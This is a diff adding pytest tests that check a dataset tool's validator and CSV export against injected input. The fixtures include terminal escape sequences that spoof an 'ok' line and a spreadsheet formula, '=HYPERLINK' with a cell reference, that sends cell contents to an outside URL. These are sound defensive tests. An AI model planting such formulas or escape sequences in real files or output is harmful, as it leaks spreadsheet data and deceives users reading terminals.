@@ -377,3 +377,60 @@ def test_f12_idle_seconds_is_between_ten_seconds_and_a_day(tmp_path: Path, secon
     assert (result.exit_code == 0) == ok, result.output
     if not ok:
         assert "--idle-seconds" in result.output and "10<=x<=86400" in result.output
+
+
+# --- F5, F17: text goes out clean -----------------------------------------------------------
+
+def test_f5_escape_sequences_in_a_cell_are_shown_escaped(mini_copy: Path) -> None:
+    places = mini_copy / "places.csv"
+    fake = "town\r\x1b[2Kok: routes: 31 marches\x1b]0;title\x07\x1b[8;30;40m"
+    places.write_text(places.read_text(encoding="utf-8").replace(",town,", f',"{fake}",', 1),
+                      encoding="utf-8")
+    result = run("validate", "--data", str(mini_copy))
+    assert result.exit_code == 1
+    assert not any(c in result.output for c in "\x1b\r\x07"), repr(result.output)
+    line = next(x for x in result.output.splitlines() if "[kind]" in x)
+    assert "'town\\r\\x1b[2Kok: routes: 31 marches\\x1b]0;title\\x07\\x1b[8;30;40m' is not" in line
+
+
+def test_f5_a_huge_value_gives_a_message_of_sane_length(mini_copy: Path) -> None:
+    route = mini_copy / "marches" / "a-to-b.geojson"
+    data = json.loads(route.read_text(encoding="utf-8"))
+    data["features"][0]["properties"]["mode"] = "x" * 19_000_000
+    route.write_text(json.dumps(data), encoding="utf-8")
+    result = run("validate", "--data", str(mini_copy))
+    assert result.exit_code == 1
+    line = next(x for x in result.output.splitlines() if "[mode]" in x)
+    assert len(line) < 1000
+    assert line.startswith(f"{route}:feature 0 [mode]: 'xxx") and "expected one of" in line
+
+
+def test_f17_csv_export_neutralises_formulas(mini_copy: Path, tmp_path: Path) -> None:
+    import csv
+
+    formula = '=HYPERLINK("http://example.org/?"&A1,"Details")'
+    marches = mini_copy / "marches.csv"
+    text = marches.read_text(encoding="utf-8")
+    text = text.replace("Camp A to Town B", formula.replace('"', '""').join('""'))
+    marches.write_text(text.replace("Camp A to Town C", "@SUM(1+1)"), encoding="utf-8")
+    places = mini_copy / "places.csv"
+    places.write_text(places.read_text(encoding="utf-8").replace("Town B,", "+Town B,"),
+                      encoding="utf-8")
+    sources = mini_copy / "sources.csv"
+    sources.write_text(sources.read_text(encoding="utf-8").replace(",Other Archive,",
+                                                                   ",-Other Archive,"),
+                       encoding="utf-8")
+    out = tmp_path / "csv"
+    result = run("export", "--format", "csv", "--data", str(mini_copy), "--out", str(out))
+    assert result.exit_code == 0, result.output
+    cells = [cell for name in ("marches.csv", "places.csv", "sources.csv")
+             for row in csv.reader((out / name).open(encoding="utf-8")) for cell in row]
+    assert "'" + formula in cells and "'@SUM(1+1)" in cells and "'+Town B" in cells
+    assert "'-Other Archive" in cells
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
+    # GeoJSON is read by programs, not spreadsheets: the text as written.
+    geo = tmp_path / "geo"
+    assert run("export", "--data", str(mini_copy), "--out", str(geo)).exit_code == 0
+    titles = {f["properties"]["march_title"]
+              for f in json.loads((geo / "marches.geojson").read_text())["features"]}
+    assert formula in titles
